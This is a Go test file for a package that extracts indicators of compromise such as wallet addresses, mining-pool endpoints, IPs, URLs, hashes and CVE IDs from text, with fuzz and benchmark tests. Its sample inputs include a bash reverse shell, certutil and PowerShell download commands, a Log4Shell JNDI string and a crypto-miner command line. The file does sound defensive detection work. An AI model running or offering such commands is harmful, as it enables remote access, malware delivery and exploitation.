package indicator

import (
	"fmt"
	"maps"
	"slices"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/google/go-cmp/cmp"
)

// seen lists what Scan finds, as "type value".
func seen(s string) (found []string) {
	Scan([]byte(s), func(m Match) bool {
		found = append(found, string(m.Type)+" "+m.Value)
		return true
	})
	return found
}

func TestScan(t *testing.T) {
	const (
		kas = "kaspa:qpauqsvk7yf9unexwmxsnmg547mhyga37csh0kj53q6xxgl24ydxjsgzthw5j"
		sha = "0024e32c0199ded445c0b968601f21cc92fc0c534d2642f2dd64c1c978ff01f3"
	)
	wallet := func(s string) string { return "wallet " + s }
	for _, tc := range []struct {
		name, text string
		want       []string
	}{
		{"bare", donation, []string{wallet(donation)}},
		{"in a command line", `intelservice.exe -o stratum+tcp://barjuok.ryongnamsan.edu.kp:5615 -u ` + reference + ` -p KJU`,
			[]string{"endpoint barjuok.ryongnamsan.edu.kp:5615", "domain barjuok.ryongnamsan.edu.kp", wallet(reference)}},
		{"JSON", `{"url":"pool.example.com:3333","user":"` + donation + `.rig","pass":"x"}`,
			[]string{"endpoint pool.example.com:3333", "domain pool.example.com", wallet(donation)}},
		{"with a worker", "-u " + donation + ".worker1", []string{wallet(donation)}},
		{"with a difficulty", "-u " + donation + "+5000", []string{wallet(donation)}},
		{"with a mail address", "-u " + donation + "/me@example.com", []string{wallet(donation), "email me@example.com"}},
		{"with a payment id", "-u " + donation + "." + strings.Repeat("4464313cf611b3b8", 4) + " " + sha, []string{wallet(donation), "sha256 " + sha}},
		{"ticker in front", "XMR:" + donation + ".r", []string{wallet(donation)}},
		{"nothing between", "poolport" + donation + referenceBase + "tail", []string{wallet(donation), wallet(referenceBase)}},
		{"in a URL", "http://pool.example.com/api/miner/" + donation + "/stats",
			[]string{"url http://pool.example.com/api/miner/" + donation + "/stats", "domain pool.example.com", wallet(donation)}},
		{"login in a URL", "stratum1+tcp://" + ether + ".rig:x@eu.example.com:4444",
			[]string{"endpoint eu.example.com:4444", wallet(ether), "domain eu.example.com"}},
		{"damaged", "user: " + donation[:94] + ", pass: x", []string{wallet(donation[:94])}},
		{"damaged by a zero", `"` + donation[:40] + "0" + donation[41:] + `"`, []string{wallet(donation[:40] + "0" + donation[41:])}},
		{"other coins", genesis + " " + segwit + ", " + taproot + "; " + ether + "\n" + kas + ".rig",
			[]string{wallet(genesis), wallet(segwit), wallet(taproot), wallet(ether), wallet(kas)}},
		{"kaspa, not at a border", "x" + kas, nil},
		{"endpoints", "1.2.3.4:3333 localhost:8080, [2001:db8::1]:443 pool.example.io:5555;",
			[]string{"endpoint 1.2.3.4:3333", "ip 1.2.3.4", "endpoint localhost:8080", "endpoint [2001:db8::1]:443", "ip 2001:db8::1", "endpoint pool.example.io:5555", "domain pool.example.io"}},
		{"IPv6 URL", "http://[2001:db8::1]:80/x http://[2001:db8::2]/ [2001:db8::3]",
			[]string{"url http://[2001:db8::1]:80/x", "ip 2001:db8::1", "url http://[2001:db8::2]/", "ip 2001:db8::2", "ip 2001:db8::3"}},
		{"reverse shell", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", []string{"ip 203.0.113.7"}},
		{"IPv6", "from 2001:db8:0:0::17, fe80::1ff:fe23:4567:890a and ::1", []string{"ip 2001:db8::17", "ip fe80::1ff:fe23:4567:890a"}},
		{"URLs in prose", "See https://example.com/a_(b), (http://example.org/x). And http://203.0.113.7:8080/mi.sh!",
			[]string{"url https://example.com/a_(b)", "domain example.com", "url http://example.org/x", "domain example.org", "url http://203.0.113.7:8080/mi.sh", "ip 203.0.113.7"}},
		{"download", `certutil -urlcache -f "http://a.example.ru/x.exe" & powershell (New-Object Net.WebClient).DownloadFile('https://b.example.top/y','y')`,
			[]string{"url http://a.example.ru/x.exe", "domain a.example.ru", "url https://b.example.top/y", "domain b.example.top"}},
		{"hashes", sha + " da39a3ee5e6b4b0d3255bfef95601890afd80709 D41D8CD98F00B204E9800998ECF8427E",
			[]string{"sha256 " + sha, "sha1 da39a3ee5e6b4b0d3255bfef95601890afd80709", "md5 d41d8cd98f00b204e9800998ecf8427e"}},
		{"CVE", "CVE-2017-7269, cve-2021-44228.", []string{"cve CVE-2017-7269", "cve CVE-2021-44228"}},
		{"mail", "mailto:me@example.com, <you+x@mail.example.org>.", []string{"email me@example.com", "email you+x@mail.example.org"}},
		{"log4shell", "${jndi:ldap://203.0.113.7:1389/Basic}", []string{"url ldap://203.0.113.7:1389/Basic", "ip 203.0.113.7"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if diff := cmp.Diff(tc.want, seen(tc.text)); diff != "" {
				t.Errorf("%s\n(-want +got):\n%s", tc.text, diff)
			}
		})
	}
}

// What is of the same shape as an indicator and is none.
func TestScanNothing(t *testing.T) {
	for _, s := range append([]string{
		"10:20:30", "2018-01-08T10:20:30Z", "foo.go:33: undefined: x", "main.rs:1204:5", "script.py:1001", "README.md:12", "x?a.id:3", "return n?this.is:10",
		"00:1a:2b:3c:4d:5e", "12:34:56:78:9a:bc:de:f0", "std::vector<a::b>", "a::b::c", "::", "dead::beef",
		"Mozilla/5.0 (X11) AppleWebKit/537.36 Chrome/120.0.0.0 Safari/537.36", "Version=4.0.0.0, Culture=neutral", "v1.2.3.4", "1.3.6.1.4.1.311", "999.1.1.1", "lib-1.2.3.4.tar.gz",
		"255.255.255.0", "0.0.0.0", "239.255.255.250", "1.2.3.4.in-addr.arpa", "1.2.3.4_5",
		"git@github.com:foo/bar.git", "@media screen", "foo@1.2.3", "user@localhost", "a@b",
		"file:///etc/passwd", "C:\\Windows\\System32", "chrome://settings", "jdbc:mysql://db/x", "://", "http://", "http:///x", "http://${host}/x",
		"CVE-20-1", "XCVE-2017-7269", "CVE-2017-726", "CVE-2017-7269a",
		strings.Repeat("0", 64), strings.Repeat("ab", 32), "0x" + strings.Repeat("0", 40), "0xffffffffffffffffffffffffffffffffffffffff",
		"0x5aAeb6053F3E94C9b9A09f33669435E7Ef1Beaed", // wrong capitals: not whole
		"deadbeefdeadbeefdeadbeefdeadbeef",
		"/" + donation[:94] + "/", donation[:94] + "=", "x" + donation[:94],
		strings.Repeat("4", 95), strings.Repeat("4", 5000), strings.Repeat("48edfHu7", 12),
		"!function(e,t){for(var n=e.length;n--;)t[n]=e[n]?e[n].id:0}(a.b.c,{d:1,e:2});",
	}, "sha384-"+negatives[9]) {
		if got := seen(s); got != nil {
			t.Errorf("%q: %v", s, got)
		}
	}
	for _, s := range negatives {
		Scan([]byte("x "+s+" y"), func(m Match) bool {
			if m.Wallet != nil {
				t.Errorf("%q holds a wallet: %+v", s, m.Wallet)
			}
			return true
		})
	}
}

func TestScanPlaces(t *testing.T) {
	s := "a http://x.example.com:80/ b " + donation + ".w c 203.0.113.7:3333 d"
	var got []string
	Scan([]byte(s), func(m Match) bool {
		got = append(got, s[m.Start:m.End])
		return true
	})
	want := []string{"http://x.example.com:80/", "x.example.com", donation, "203.0.113.7:3333", "203.0.113.7"}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
}

func TestScanStops(t *testing.T) {
	for stop := 1; stop < 5; stop++ {
		n := 0
		Scan([]byte("1.2.3.4 a@example.com http://example.com "+donation), func(Match) bool { n++; return n < stop })
		if n != stop {
			t.Errorf("yield said stop at %d, and was called %d times", stop, n)
		}
	}
}

// A token says the same wherever the text around it is cut.
func TestSplitInvariance(t *testing.T) {
	tokens := strings.Fields(sampleText)
	whole := seen(sampleText)
	for cut := range len(tokens) + 1 {
		parts := append(seen(strings.Join(tokens[:cut], " ")), seen(strings.Join(tokens[cut:], " "))...)
		if diff := cmp.Diff(whole, parts); diff != "" {
			t.Fatalf("cut before token %d (-whole +parts):\n%s", cut, diff)
		}
	}
	alone := []string{}
	for _, token := range tokens {
		alone = append(alone, seen(token)...)
	}
	if diff := cmp.Diff(whole, alone); diff != "" {
		t.Errorf("token by token (-whole +alone):\n%s", diff)
	}
}

var sampleText = strings.Join([]string{
	"The installer starts intelservice.exe with -o stratum+tcp://pool.example.com:3333 -u " + reference + " -p x and then",
	"fetches http://203.0.113.7:8080/a.sh?b=" + genesis + " by way of CVE-2017-7269. Write to me@example.com, or 2001:db8::5:17,",
	`{"pools":[{"url":"[2001:db8::1]:443","user":"` + donation + `.rig/you@example.org","rig-id":null}],`,
	strings.Join(negatives, " "), segwit + ";" + ether + "," + taproot, "Version=4.0.0.0 time 10:20:30 localhost:3333",
}, "\n")

func TestScanUTF16(t *testing.T) {
	for _, lead := range []string{"", "\x01", "\x01\x00\x02"} {
		b := []byte(lead)
		for _, u := range utf16.Encode([]rune("-u " + donation + " -o pool.example.com:3333é 203.0.113.7")) {
			b = append(b, byte(u), byte(u>>8))
		}
		b = append(b, "ASCII 1.2.3.4"...)
		var got []string
		ScanUTF16LE(b, func(m Match) bool {
			got = append(got, m.Value)
			if w := b[m.Start:m.End]; len(w) != 2*len(m.Value) || w[0] != m.Value[0] || w[len(w)-2] != m.Value[len(m.Value)-1] {
				t.Errorf("%s is said to be at %q", m.Value, w)
			}
			return true
		})
		if diff := cmp.Diff([]string{donation, "pool.example.com:3333", "pool.example.com", "203.0.113.7"}, got); diff != "" {
			t.Errorf("after %q (-want +got):\n%s", lead, diff)
		}
	}
}

func TestScanNames(t *testing.T) {
	names := func(s string) (found []string) {
		ScanNames([]byte(s), func(m Match) bool { found = append(found, m.Value); return true })
		return found
	}
	got := names("It spoke to barjuok.ryongnamsan.edu.kp, POOL.EXAMPLE.COM and xmr.example.org. Then it.Stopped and run.sh, foo.go, me@example.com, ASP.NET, e.g. /a/b.com")
	if diff := cmp.Diff([]string{"barjuok.ryongnamsan.edu.kp", "pool.example.com", "xmr.example.org"}, got); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
}

func FuzzScan(f *testing.F) {
	f.Add([]byte(sampleText))
	for _, s := range []string{"http://http://http://", "a:1:1:1::1", "@@@", "1.1.1.1.1.1", "[[[:1]:1", "kaspa:" + strings.Repeat("q", 61), "CVE-CVE-2017-CVE-2017-7269",
		strings.Repeat("4A", 60), donation + reference, "ssl://a@b:c@d.com:1", "a.com:1:2::3:80", "hxxp[:]//a[.]b"} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, b []byte) {
		last := 0
		check := func(m Match) bool {
			if m.Start < 0 || m.End > len(b) || m.Start >= m.End || m.Start < last {
				t.Fatalf("%q: %+v after a match at %d", b, m, last)
			}
			if m.Value == "" || (m.Type == TypeWallet) != (m.Wallet != nil) || m.End-m.Start > LongestMatch {
				t.Fatalf("%q: %+v", b, m)
			}
			if again, ok := New(m.Type, m.Value); !ok || again != m.Indicator {
				t.Fatalf("%q: %v is not canonical: %v, %v", b, m.Indicator, again, ok)
			}
			last = m.Start
			return true
		}
		Scan(b, check)
		last = 0
		ScanNames(b, check)
		last = 0
		ScanUTF16LE(b, func(m Match) bool { return m.End <= len(b) && m.Start >= 0 })
	})
}

// BenchmarkScanHostile shows that no text makes the scan quadratic: the speed
// of 256 KiB is that of 16 KiB.
func BenchmarkScanHostile(b *testing.B) {
	for _, name := range slices.Sorted(maps.Keys(hostile)) {
		for _, n := range []int{16 << 10, 256 << 10} {
			b.Run(fmt.Sprintf("%s/%dKiB", name, n>>10), func(b *testing.B) {
				text := []byte(strings.Repeat(hostile[name], n/len(hostile[name])+1))
				b.SetBytes(int64(len(text)))
				b.ReportAllocs()
				for b.Loop() {
					Scan(text, func(Match) bool { return true })
					ScanNames(text, func(Match) bool { return true })
					RefangText(text)
				}
			})
		}
	}
}

var hostile = map[string]string{
	"base58": "4A2bC3dE5fG6hJ7kL8mN9pQ", "one digit": "4", "hex": "0123456789abcdef", "dots": ".", "digits and dots": "1.", "colons": ":", "hex and colons": "a1:",
	"ports": "a:1", "at signs": "@", "letters and at signs": "ab@", "URLs": "http://", "URLs with names": "http://a", "schemes": "a://", "brackets": "[", "hyphens": "CVE-",
	"addresses": "1.1.1.1", "IPv6": "2001:db8::", "kaspa": "kaspa:", "defanged": "hxxp[.]", "wallet": donation, "mail": "a.b@c.com,",
}

func benchTexts() []struct {
	name string
	text []byte
} {
	prose := "The committee met on Tuesday, as it had done for eleven years, and found that nobody had brought the minutes of the last meeting. " +
		"It was agreed to wait; in the meantime Mr. Brown told of his travels, at length, and with maps. See chapter 12, page 40.\n"
	var log strings.Builder
	for i := range 2000 {
		fmt.Fprintf(&log, "2018-01-08 10:%02d:%02d 10.0.0.%d GET /index.asp id=%d 80 - 203.0.113.%d Mozilla/5.0+(Windows+NT+6.1) 200 0 0 %d\n", i/60%60, i%60, i%250, i, i%250, i)
	}
	b64 := strings.Repeat("aHR0cHM6Ly93d3cuZXhhbXBsZS5jb20vYS92ZXJ5L2xvbmcvcGF0aC90aGF0L2lz+L2VuY29kZWQ/c29tZXdoZXJl", 3000)
	return []struct {
		name string
		text []byte
	}{
		{"prose", []byte(strings.Repeat(prose, 1000))},
		{"weblog", []byte(log.String())},
		{"base64", []byte(b64)},
		{"hostile base58", []byte(strings.Repeat("4A2bC3dE5fG6hJ7kL8mN9pQ", 5000))},
		{"zeros", make([]byte, 200_000)},
		{"wallets", []byte(strings.Repeat(sampleText, 50))},
	}
}

func BenchmarkScan(b *testing.B) {
	for _, tc := range benchTexts() {
		b.Run(tc.name, func(b *testing.B) {
			b.SetBytes(int64(len(tc.text)))
			b.ReportAllocs()
			for b.Loop() {
				Scan(tc.text, func(Match) bool { return true })
			}
		})
	}
}

func BenchmarkRefangText(b *testing.B) {
	text := benchTexts()[0].text
	b.SetBytes(int64(len(text)))
	b.ReportAllocs()
	for b.Loop() {
		RefangText(text)
	}
}

// The order of a finder's list is no matter of chance.
func TestSameTwice(t *testing.T) {
	if a, b := seen(sampleText), seen(sampleText); !slices.Equal(a, b) {
		t.Errorf("%v\n%v", a, b)
	}
}
